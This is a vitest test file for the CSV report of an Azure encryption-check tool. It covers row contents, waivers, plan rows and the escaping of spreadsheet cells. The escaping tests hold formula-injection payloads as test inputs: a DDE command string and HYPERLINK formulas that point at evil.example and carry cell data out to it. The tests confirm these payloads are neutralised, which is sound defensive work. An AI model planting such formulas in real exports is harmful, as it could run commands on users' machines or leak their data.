import { describe, expect, it } from 'vitest'
import { instruction } from '../../src/checklist/remedy.ts'
import type { Controls, PlanReport, Report, WorkspaceReport } from '../../src/model.ts'
import { cell, remembering } from '../../src/report/csv/cell.ts'
import { csvReport } from '../../src/report/csv/csv.ts'
import { context, examples, finding, ids, missingVault, plan, planned, report, waiver, workspace } from './builder.ts'

const { controls } = report()

const written = (workspaces: WorkspaceReport[], of: PlanReport | null = null, checks?: Controls['checks']) =>
  csvOf({ ...report({ workspaces }), plan: of, controls: checks ? { ...controls, checks } : controls })

const csvOf = (of: Report) => [...csvReport(of.workspaces, of, context())].join('')

/** Cells by RFC 4180, which this file follows more strictly: text stands in quotation marks, and a line is a line. */
function table(text: string, separator = ','): string[][] {
  const quoted = new RegExp(`${separator}?(?:"((?:[^"]|"")*)"|([^${separator}"]*))`, 'gy')
  return text
    .slice(1)
    .split('\r\n')
    .slice(0, -1)
    .map((line) =>
      [...`${separator}${line}`.matchAll(quoted)].map(([, one, bare]) => one?.replaceAll('""', '"') ?? bare ?? ''),
    )
    .map((cells) => cells.slice(0, -1))
}

/** Lines as records. */
function records(text: string): Record<string, string>[] {
  const [head = [], ...rows] = table(text)
  return rows.map((row) => {
    expect(row).toHaveLength(head.length)
    return Object.fromEntries(head.map((name, index) => [name, row[index] ?? '']))
  })
}

const { admin, purge, waived, unreadable } = examples

describe('a line', () => {
  const [pass, fail, unknown, accepted] = [
    finding('storage/secure-transfer', ids.storage('st'), { status: 'pass', new: false }),
    purge('kv', { new: true }),
    unreadable('key-vault/soft-delete'),
    {
      ...waived(),
      waiver: waiver('data-platform', 'moves to identity access in Q1', '2027-03-31', { ticket: 'SEC-12' }),
    },
  ]
  const lines = records(written([workspace('mlw-fraud-prod', [pass, fail, unknown, accepted])]))

  it('says of a failure where it is, what was read and how to fix it', () => {
    expect(lines[1]).toEqual({
      workspace: 'mlw-fraud-prod',
      subscription: '11111111-1111-4111-8111-111111111111',
      resource_group: 'rg-fraud',
      judgement: 'live',
      check: 'key-vault/purge-protection',
      title: 'The key vault cannot be purged',
      system: 'key-vault',
      status: 'fail',
      severity: 'high',
      reason: '',
      message: 'Purge protection is not enabled on the vault of the customer-managed key.',
      resource: ids.vault('kv'),
      evidence: 'properties.enablePurgeProtection is not set',
      fix: expect.stringMatching(/^az keyvault update --name kv .* --enable-purge-protection true$/),
      waiver_owner: '',
      waiver_reason: '',
      waiver_expires: '',
      waiver_ticket: '',
      new: 'true',
      change: '',
      source: '',
      fingerprint: fail.fingerprint,
      controls: expect.stringMatching(/^mcsb-v2: DP-8; mcsb-v1: DP-8; .*\bcis-azure-v3\.0\.0: /),
    })
  })

  it('is there for every status, also where nothing was found', () => {
    const others = {
      'not-applicable': { 'not-used': ['a/1'], inherited: ['a/2'], absent: ['a/3'], disabled: ['a/4'] },
      attested: ['compute/os-disk'],
      manual: ['a/5'],
    }
    const all = records(written([workspace('mlw', [pass, fail, unknown, accepted], { others })]))
    expect(all.map(({ status, reason, check }) => [status, reason, check].join(' '))).toEqual([
      'pass  storage/secure-transfer',
      'fail  key-vault/purge-protection',
      'unknown forbidden key-vault/soft-delete',
      'waived  storage/shared-key',
      'not-applicable not-used a/1',
      'not-applicable inherited a/2',
      'not-applicable absent a/3',
      'not-applicable disabled a/4',
      'attested  compute/os-disk',
      'manual  a/5',
    ])
    expect(all.every(({ message, workspace: name }) => message !== '' && name === 'mlw')).toBe(true)
    expect(all[8]?.title).toBe('Azure encrypts the OS disks of computes')
  })

  it('names who accepts a failure, why, and until when', () => {
    expect(lines[3]).toMatchObject({
      waiver_owner: 'data-platform',
      waiver_reason: 'moves to identity access in Q1',
      waiver_expires: '2027-03-31',
      waiver_ticket: 'SEC-12',
    })
  })

  it('has no word on what is new where there was nothing to compare with', () => {
    expect(lines.map((one) => one.new)).toEqual(['false', 'true', '', '', ...Array(lines.length - 4).fill('')])
  })

  it('says of what else a value was read', () => {
    const evidence = [
      { path: 'properties.encryption.keySource', value: 'Microsoft.Keyvault' },
      { resource: ids.vault('kv'), path: 'properties.enabled', value: true },
      { resource: ids.storage('ST'), path: 'sku.name', value: null },
    ]
    const [line] = records(written([workspace('mlw', [finding('a/b', ids.storage('st'), { evidence })])]))
    expect(line?.evidence).toBe(
      `properties.encryption.keySource: Microsoft.Keyvault; properties.enabled of ${ids.vault('kv')}: true; sku.name is not set`,
    )
  })

  it('has a fix that a shell takes, commands one after the other', () => {
    const both = { steps: [...admin('cr a').steps, ...admin('cr').steps, instruction`Look at it.`] }
    const [line] = records(written([workspace('mlw', [finding('a/b', ids.registry('cr'), both)])]))
    expect(line?.fix).toMatch(
      /^Let .* first, then az acr update --name 'cr a' [^;]* false; Let [^;]* false; Look at it\.$/,
    )
  })

  it('names the controls of its check, framework by framework, also of a check that found nothing', () => {
    const mapped = { 'key/type': { dora: ['9.3a', '9.3c'], nis2: ['21'] }, 'a/b': {} }
    const others = { ...none, attested: ['key/type'] }
    const lines = records(written([workspace('mlw', [finding('a/b', ids.storage('st'))], { others })], null, mapped))
    expect(lines.map((one) => one.controls)).toEqual(['', 'dora: 9.3a, 9.3c; nis2: 21'])
  })

  it('of a plan says what becomes of it, and where it comes from', () => {
    const of = plan([
      planned('introduces', purge()),
      planned('leaves', finding('secrets/job-environment', 'jobs/a.yml'), {
        workspace: null,
        source: { file: 'jobs/a.yml', line: null },
      }),
      planned('gone', admin(), { source: null }),
    ])
    const [live, ...rest] = records(written([workspace('mlw', [purge()], { others: none })], of))
    expect([live?.judgement, live?.change]).toEqual(['live', ''])
    expect(rest.map((one) => [one.judgement, one.workspace, one.resource_group, one.change, one.source])).toEqual([
      ['planned', 'mlw-fraud-prod', 'rg-fraud', 'introduces', 'infra/main.tf:42'],
      ['planned', '', '', 'leaves', 'jobs/a.yml'],
      ['planned', 'mlw-fraud-prod', 'rg-fraud', 'gone', ''],
    ])
  })
})

const none = { 'not-applicable': { 'not-used': [], inherited: [], absent: [], disabled: [] }, attested: [], manual: [] }

it('workspaces are asked for one by one', () => {
  let asked = 0
  const many = function* () {
    for (; asked < 3; asked += 1) yield workspace(`mlw-${asked}`, [purge()])
  }
  const pieces = csvReport({ [Symbol.iterator]: many }, report({ workspaces: [workspace('mlw')] }), context())
  const after = [...Array(5)].map(() => [String(pieces.next().value).includes('mlw-'), asked])
  expect(after).toEqual([
    [false, 0],
    [false, 0],
    [true, 0],
    [true, 1],
    [true, 2],
  ])
})

describe('what is out of sight is a line, so that a short list is none of a whole estate', () => {
  const hidden = missingVault({
    resource: 'mlw-gone',
    named: true,
    reason: 'not-visible',
    message: 'It is not visible.',
  })
  const part = { address: 'module.ml.azapi_resource.x', reason: 'Nobody knows its type.' }

  it.each<[what: string, of: Report, line: string]>([
    ['a run that was skipped', report({ conclusion: 'skipped' }), 'live unknown  | Encryption check skipped: this run'],
    ['no workspace', report({ conclusion: 'incomplete' }), 'live unknown  | Encryption check found no Azure'],
    [
      'a name',
      report({ conclusion: 'incomplete', workspaces: [workspace('mlw')], missing: [hidden] }),
      'live unknown not-visible mlw-gone| It is not visible.',
    ],
    [
      'a part of a plan',
      { ...report({ workspaces: [workspace('mlw')] }), plan: plan([], { notLookedInto: [part] }) },
      'planned unknown not-observable module.ml.azapi_resource.x| Nobody knows its type.',
    ],
  ])('%s', (_what, of, line) => {
    const [first] = records(csvOf(of))
    const { judgement, status, reason, resource, message } = first ?? {}
    expect(`${judgement} ${status} ${reason} ${resource}| ${message}`).toContain(line)
    expect(first?.check).toBe('coverage/visible')
  })

  it('but not what findings say already', () => {
    const of = report({ workspaces: [workspace('mlw', [purge()])], missing: [missingVault()] })
    expect(records(csvOf(of)).map(({ check }) => check)).not.toContain('coverage/visible')
  })
})

/** What a spreadsheet does with a cell that begins so. */
const computes = /^["\s]*[=+\-@\t\r\n\uFE62\uFE63\uFE66\uFE6B\uFF0B\uFF0D\uFF1D\uFF20]/

describe('a cell', () => {
  it.each<[what: string, text: string, shown: string]>([
    ['a sentence', 'The admin user is enabled.', 'The admin user is enabled.'],
    ['quotation marks', 'a "b", c', 'a "b", c'],
    ['an equals sign', '=1+1', "'=1+1"],
    ['a command', "=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ['a link', '=HYPERLINK("http://evil.example","x")', `'=HYPERLINK("http://evil.example","x")`],
    ['a plus', '+1', "'+1"],
    ['a minus', '-2+3', "'-2+3"],
    ['a function of Lotus', '@SUM(1)', "'@SUM(1)"],
    ['full width', '＝1', "'＝1"],
    ['full width', '＋1', "'＋1"],
    ['full width', '－1', "'－1"],
    ['full width', '＠SUM(1)', "'＠SUM(1)"],
    ['small forms', '﹦1', "'﹦1"],
    ['behind quotation marks', '""=1', `'""=1`],
    ['behind an apostrophe', "'=1", "''=1"],
    ['behind blanks', '  =1', "'  =1"],
    ['behind a tab', '\t=1', '\u{fffd}=1'],
    ['behind a line end', '\r\n=1', '\u{fffd}\u{fffd}=1'],
    ['where lists have semicolons', 'x;=1', "x;'=1"],
    ['where a quoted cell seems to end', 'x",=1', `x",'=1`],
    ['behind a comma and blanks', 'x, "@A', `x,' "@A`],
    ['a sign in the middle', 'a=b-c, d', 'a=b-c, d'],
    ['nothing', '\0=1', '\u{fffd}=1'],
    ['text that runs backwards', 'a\u202egnp.exe', 'a\u{fffd}gnp.exe'],
    ['half a character', 'a\ud800b', 'a\u{fffd}b'],
    ['line ends', 'a\nb\r\nc\u2028d\u0085e', 'a\u{fffd}b\u{fffd}\u{fffd}c\u{fffd}d\u{fffd}e'],
    ['a byte order mark', '\ufeff=1', '\u{fffd}=1'],
    ['emoji', '🔑 key', '🔑 key'],
    ['a credential', `?sv=1&${'sig'}=${'a1B2'.repeat(10)}%3D`, '?sv=1&sig=***'],
  ])('%s: %j', (_what, text, shown) => {
    expect(table(`\uFEFF${cell(text)}\r\n`)).toEqual([[shown]])
    expect(shown).not.toMatch(computes)
  })

  const marks = ['=', '＝', "'", '"', ' ', ';', 'x']
  const texts = marks.flatMap((a) => marks.flatMap((b) => marks.flatMap((c) => [...marks.map((d) => a + b + c + d)])))

  it('computes nothing, wherever a spreadsheet begins cells', () => {
    const cells = texts.map((text) => table(`\uFEFF${cell(text)}\r\n`).flat()[0] ?? '')
    const begun = cells.flatMap((one) => [one, ...one.split(/[,;]/)])
    expect(begun.filter((one) => computes.test(one))).toEqual([])
  })

  it('gives the text back to whoever takes the apostrophes away', () => {
    const signs = /(?<=^|[,;])'(?=['"\s]*[=＝])/g
    const back = texts.map((text) => (table(`\uFEFF${cell(text)}\r\n`).flat()[0] ?? '').replace(signs, ''))
    expect(back).toEqual(texts)
  })

  it.each([
    ['letters', 'x'.repeat(40_000)],
    ['signs', ',='.repeat(20_000)],
    ['quotation marks', '"'.repeat(40_000)],
    ['characters of two halves', `x${'🔑'.repeat(20_000)}`],
  ])('has no more characters than Excel takes: %s', (_what, text) => {
    const shown = table(`\uFEFF${cell(text)}\r\n`).flat()[0] ?? ''
    expect(shown.length).toBeLessThanOrEqual(32_767)
    expect(shown.length).toBeGreaterThan(32_765)
    expect(shown).toMatch(/[^\ud800-\udbff]…$/)
    expect(shown.isWellFormed()).toBe(true)
  })

  it('that is as long as Excel takes is whole', () => {
    expect(cell('x'.repeat(32_767))).toBe(`"${'x'.repeat(32_767)}"`)
  })
})

it('short cells are made once, as long as there are few', () => {
  const made: string[] = []
  const shown = remembering((text) => {
    made.push(text)
    return `<${text}>`
  }, 2)
  const long = 'x'.repeat(1001)
  const texts = ['a', 'b', 'a', 'b', long, long, 'c', 'c', 'a']
  expect(texts.map(shown)).toEqual(texts.map((text) => `<${text}>`))
  expect(made).toEqual(['a', 'b', long, long, 'c', 'a'])
})

it('hostile names stay in their line and in their cell', () => {
  const evil = `=HYPERLINK("http://evil.example/?a="&A1,"x")\r\n"=1",\t@A;=1\0\u202e`
  const [step] = admin(evil).steps
  const of = finding(evil, evil, {
    status: 'waived',
    message: evil,
    evidence: [{ resource: evil, path: evil, value: evil }],
    steps: [instruction`${evil}`, ...(step ? [step] : [])],
    fingerprint: evil,
    waiver: waiver(evil, evil, evil, { ticket: evil }),
  })
  const text = written(
    [workspace(evil, [of], { id: evil, others: { ...none, manual: [evil] } })],
    plan([planned('introduces', of, { workspace: evil, source: { file: evil, line: 1 } })]),
    { [evil]: { [evil]: [evil] } },
  )
  expect(text.split(/[\r\n]+/)).toHaveLength(5)
  expect(text.slice(1)).not.toMatch(/[^\P{C}\r\n]/u)
  const all = records(text)
  expect(all.map(({ judgement }) => judgement)).toEqual(['live', 'live', 'planned'])
  // also where cells begin at semicolons, as in Germany
  const begun = [...all.flatMap((one) => Object.values(one)), ...text.slice(1).split(/;|\r\n/)]
  expect(begun.filter((one) => computes.test(one))).toEqual([])
})
